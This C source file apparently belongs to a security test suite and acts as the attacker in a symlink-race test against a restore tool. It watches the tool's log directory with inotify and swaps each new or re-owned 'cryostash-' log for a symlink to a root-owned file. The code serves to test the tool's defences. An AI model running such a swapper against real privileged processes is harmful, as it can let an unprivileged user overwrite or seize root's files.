// SPDX-License-Identifier: Apache-2.0
/*
 * The attacker of issue 12, item 15, run as the image's (unprivileged) user: it watches the
 * restore's log directory and, as soon as a log appears or is handed over (chown), replaces it
 * with a symlink to a file of root's (argv[3]). argv[2] is the directory watched. It counts
 * its swaps in <dir>/swaps.
 */
#include "fixture.h"
#include <sys/inotify.h>

int main(int argc, char **argv) {
    fx_init(argc, argv);
    FX_CHECK(argc > 3, "usage: swapper <dir> <watched dir> <victim>");
    int in = inotify_init1(IN_CLOEXEC);
    FX_CHECK(in >= 0, "inotify_init1");
    FX_CHECK(inotify_add_watch(in, argv[2], IN_CREATE | IN_ATTRIB | IN_MOVED_TO) >= 0, "watch %s", argv[2]);
    fx_ready();
    int swaps = 0;
    char buf[4096] __attribute__((aligned(8)));
    for (;;) {
        ssize_t n = read(in, buf, sizeof buf);
        if (n <= 0) continue;
        for (char *p = buf; p < buf + n; ) {
            struct inotify_event *e = (struct inotify_event *) p;
            p += sizeof *e + e->len;
            if (e->len == 0 || strncmp(e->name, "cryostash-", 10) != 0) continue;
            char path[4096];
            snprintf(path, sizeof path, "%s/%s", argv[2], e->name);
            char target[4096];
            ssize_t l = readlink(path, target, sizeof target - 1);
            if (l >= 0) continue; /* already ours */
            if (unlink(path) == 0 && symlink(argv[3], path) == 0) {
                fx_report("swaps", "%d\n", ++swaps);
            }
        }
    }
}
